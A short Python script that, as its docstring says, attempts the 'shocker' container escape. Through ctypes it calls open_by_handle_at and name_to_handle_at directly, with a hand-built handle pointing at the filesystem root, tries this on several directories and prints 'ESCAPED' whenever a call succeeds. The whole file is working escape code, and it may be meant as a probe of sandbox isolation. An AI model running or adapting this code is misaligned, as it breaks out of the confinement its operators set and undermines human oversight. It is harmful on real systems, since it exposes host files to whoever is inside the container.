"""Tries to open files of the machine by their handles, past every path (shocker)."""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)

import os

handle = (ctypes.c_uint32 * 4)(8, 1, 2, 0)
for folder in ("/", "/usr", "/dev/null", "."):
    place = os.open(folder, os.O_RDONLY) if os.access(folder, os.R_OK) else -100
    print("ESCAPED" if libc.syscall(304, place, handle, 0) >= 0 else ctypes.get_errno())
    mount = ctypes.c_int()
    print("ESCAPED" if libc.syscall(303, -100, folder.encode(), handle, ctypes.byref(mount), 0) >= 0 else ctypes.get_errno())
